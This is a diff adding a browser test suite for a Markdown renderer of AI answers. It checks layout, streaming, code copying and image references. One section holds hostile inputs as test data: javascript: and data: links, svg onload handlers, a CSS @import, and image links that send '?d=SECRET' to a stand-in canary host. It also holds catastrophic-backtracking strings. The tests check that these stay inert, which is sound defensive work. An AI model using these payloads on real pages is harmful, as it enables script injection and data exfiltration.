@@ -1,0 +1,204 @@
+import { createRoot } from 'react-dom/client';
+import { beforeEach, describe, expect, test, vi } from 'vitest';
+import { userEvent } from 'vitest/browser';
+import { render } from 'vitest-browser-react';
+import '../../../src/components/styles.css';
+import { Markdown } from '../../../src/markdown.js';
+import { requestsTo, unsafeParts } from '../../helpers/answer-safety.js';
+
+declare const __SHARED_FOLDER__: string;
+
+const HOST = 'canary.invalid';
+
+async function show(text: string) {
+  const screen = await render(<Markdown text={text} />);
+  return { screen, root: screen.container };
+}
+
+describe('an answer in markdown', () => {
+  test('has headings, lists, tables, quotes and code', async () => {
+    const { root } = await show(
+      '# Title\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n> quote\n\n```ts\nlet a = 1;\n```\n\n~~gone~~',
+    );
+    for (const selector of ['h1', 'ul > li', 'table td', 'blockquote', 'pre > code', 'del']) {
+      expect(root.querySelectorAll(selector).length).toBeGreaterThan(0);
+    }
+  });
+
+  test('keeps blocks on the page while it grows, and draws only the last one anew', async () => {
+    const screen = await render(<Markdown text={'First.\n\nSec'} isStreaming />);
+    const first = screen.container.querySelector('p');
+    await screen.rerender(<Markdown text={'First.\n\nSecond **bold**.\n\nThird.'} isStreaming />);
+    expect(screen.container.querySelector('p')).toBe(first);
+    expect(screen.container.textContent).toBe('First.\nSecond bold.\nThird.');
+  });
+
+  test('finds link targets that stand at its end', async () => {
+    const { root } = await show('See [the page][1].\n\nMore.\n\n[1]: https://example.com/x');
+    expect(root.querySelector('a')?.href).toBe('https://example.com/x');
+  });
+
+  test('leaves math as the text it is', async () => {
+    const { root } = await show(String.raw`Euler: \(e^{i*\pi*2}\) and $a*b*c$ for $5.`);
+    expect(root.textContent).toBe(String.raw`Euler: \(e^{i*\pi*2}\) and $a*b*c$ for $5.`);
+    expect(root.querySelector('em')).toBeNull();
+  });
+
+  test('copies code without its fences', async () => {
+    const { screen } = await show('```ts\nconst a = 1;\nconst b = 2;\n```');
+    await userEvent.click(screen.getByRole('button', { name: 'Copy code' }));
+    await expect.poll(() => navigator.clipboard.readText()).toBe('const a = 1;\nconst b = 2;');
+  });
+
+  test('turns "Image 2" into a button that opens it, and leaves numbers that do not exist', async () => {
+    const onOpen = vi.fn();
+    const references = { count: 2, onOpen };
+    const screen = await render(
+      <Markdown
+        text="Image 2 is darker than **image 1**; Image 3 and Image 12 are not there."
+        imageReferences={references}
+      />,
+    );
+    await userEvent.click(screen.getByRole('button', { name: 'Image 2' }));
+    expect(onOpen).toHaveBeenCalledWith(2);
+    expect(screen.container.querySelectorAll('button').length).toBe(2);
+    expect(screen.container.textContent).toBe(
+      'Image 2 is darker than image 1; Image 3 and Image 12 are not there.',
+    );
+  });
+});
+
+interface CorpusCase {
+  id: string;
+  markdown: string;
+  chunks?: string[];
+}
+
+describe.skipIf(__SHARED_FOLDER__ === '')('the corpus of hostile answers', () => {
+  test('asks for nothing and holds nothing dangerous, after every piece of every case', async () => {
+    const response = await fetch(`/@fs${__SHARED_FOLDER__}/corpus/text/model-answers.json`);
+    const { cases } = (await response.json()) as { cases: CorpusCase[] };
+    expect(cases.length).toBeGreaterThan(10);
+    performance.clearResourceTimings();
+    const failures: string[] = [];
+    for (const { id, markdown, chunks = [markdown] } of cases) {
+      const screen = await render(<Markdown text="" isStreaming />);
+      let text = '';
+      const blockedMs = await longestBlockMs(async () => {
+        for (const chunk of chunks) {
+          text += chunk;
+          await screen.rerender(<Markdown text={text} isStreaming />);
+          await new Promise(requestAnimationFrame);
+          failures.push(...unsafeParts(screen.container).map((part) => `${id}: ${part}`));
+        }
+      });
+      if (blockedMs > 200) failures.push(`${id}: blocked for ${blockedMs} ms`);
+      await screen.unmount();
+    }
+    expect(failures).toEqual([]);
+    expect(requestsTo(HOST)).toEqual([]);
+  });
+});
+
+describe('an answer that means harm', () => {
+  beforeEach(() => performance.clearResourceTimings());
+
+  test.each([
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](java&#10;script:alert(1))',
+    '[x](data:text/html,x)',
+    '[x](vbscript:x)',
+    '<javascript:alert(1)>',
+    '[x]: javascript:alert(1)\n\n[x]',
+    '[rel](x) [root](/x) [hash](#x) [host](//canary.invalid/x)',
+    '<a href="https://canary.invalid" onclick="alert(1)">x</a>',
+    `<img src="https://${HOST}/1"><svg onload=alert(1)>`,
+    `<style>@import url(https://${HOST}/s)</style>`,
+    `![a](https://${HOST}/i?d=SECRET)`,
+    `![a][r]\n\n[r]: https://${HOST}/ref`,
+    `[![a](https://${HOST}/i)](https://${HOST}/l)`,
+    '![a](data:image/svg+xml;base64,PHN2Zy8+)',
+    '[open](image-chat-kit:1)',
+    '[^1]\n\n[^1]: note',
+  ])('%j is text, and asks for nothing', async (text) => {
+    const { root } = await show(text);
+    await new Promise((resolve) => setTimeout(resolve, 30));
+    expect(unsafeParts(root)).toEqual([]);
+    expect(requestsTo(HOST)).toEqual([]);
+  });
+
+  test('shows the host of a picture, and loads it only after a press, without a referrer', async () => {
+    const { screen, root } = await show(`![a chart](https://${HOST}/chart.png?d=SECRET)`);
+    await expect.element(screen.getByText(`a chart (${HOST})`)).toBeVisible();
+    expect(root.querySelector('img')).toBeNull();
+    await userEvent.click(screen.getByRole('button', { name: 'Load' }));
+    const image = root.querySelector('img');
+    expect(image?.src).toBe(`https://${HOST}/chart.png?d=SECRET`);
+    expect(image?.referrerPolicy).toBe('no-referrer');
+  });
+
+  test('shows where a link really goes', async () => {
+    const { root } = await show(
+      `[bank.example](https://bank.example@${HOST}/) and https://example.com/`,
+    );
+    expect(root.textContent).toBe(`bank.example (${HOST}) and https://example.com/`);
+    const link = root.querySelector('a');
+    expect(link?.rel).toBe('noopener noreferrer nofollow');
+    expect(link?.target).toBe('_blank');
+  });
+
+  test.each([
+    ['five thousand quotes', '>'.repeat(5000)],
+    ['five thousand lists', '- '.repeat(5000)],
+    ['twenty thousand brackets', '['.repeat(20_000)],
+    ['twenty thousand stars', '*a '.repeat(20_000)],
+    ['brackets that almost pair', '[a]('.repeat(5000)],
+    ['nested emphasis', `${'*a **b '.repeat(1500)}x${' b** a*'.repeat(1500)}`],
+    ['brackets in one paragraph', '['.repeat(11_900)],
+    ['closed brackets in one paragraph', '[]'.repeat(5900)],
+    ['stars in one paragraph', '*a '.repeat(3900)],
+    ['stars and underscores in one paragraph', '*_a_ '.repeat(2300)],
+    ['links that almost pair in one paragraph', '[a]('.repeat(2900)],
+    ['angle brackets in one paragraph', '<a '.repeat(3900)],
+    ['ampersands in one paragraph', '&a;'.repeat(3900)],
+    ['addresses in one paragraph', 'https://a.b '.repeat(900)],
+    ['dollars in one paragraph', '$a '.repeat(3900)],
+    ['backslash brackets in one paragraph', String.raw`\( `.repeat(3900)],
+    ['backticks of all lengths', Array.from({ length: 300 }, (_, n) => '`'.repeat(n)).join(' ')],
+    ['angle brackets', '<'.repeat(20_000)],
+    [
+      'a table of one row and many cells',
+      `|${'a|'.repeat(3000)}\n|${'-|'.repeat(3000)}\n|${'b|'.repeat(3000)}`,
+    ],
+    ['a megabyte in one paragraph', 'word '.repeat(200_000)],
+    ['a hundred paragraphs', `${'Some **bold** words and ~~more~~. '.repeat(8)}\n\n`.repeat(100)],
+  ])('%s do not stop the page', { retry: 3 }, async (_name, markers) => {
+    // Not rendered by the test library, which looks at every element itself.
+    const element = document.body.appendChild(document.createElement('div'));
+    const root = createRoot(element);
+    const longest = await longestBlockMs(async () => {
+      root.render(<Markdown text={`${markers}end`} />);
+      await expect
+        .poll(() => element.textContent.trimEnd().endsWith('end'), { timeout: 14_000 })
+        .toBe(true);
+    });
+    root.unmount();
+    element.remove();
+    expect(longest).toBeLessThan(200);
+  });
+});
+
+/** The longest time the page did nothing else, while something was done and for a moment after. */
+async function longestBlockMs(run: () => Promise<unknown>): Promise<number> {
+  let longest = 0;
+  let last = performance.now();
+  const timer = setInterval(() => {
+    longest = Math.max(longest, performance.now() - last);
+    last = performance.now();
+  }, 1);
+  await run();
+  await new Promise((resolve) => setTimeout(resolve, 400));
+  clearInterval(timer);
+  return longest;
+}
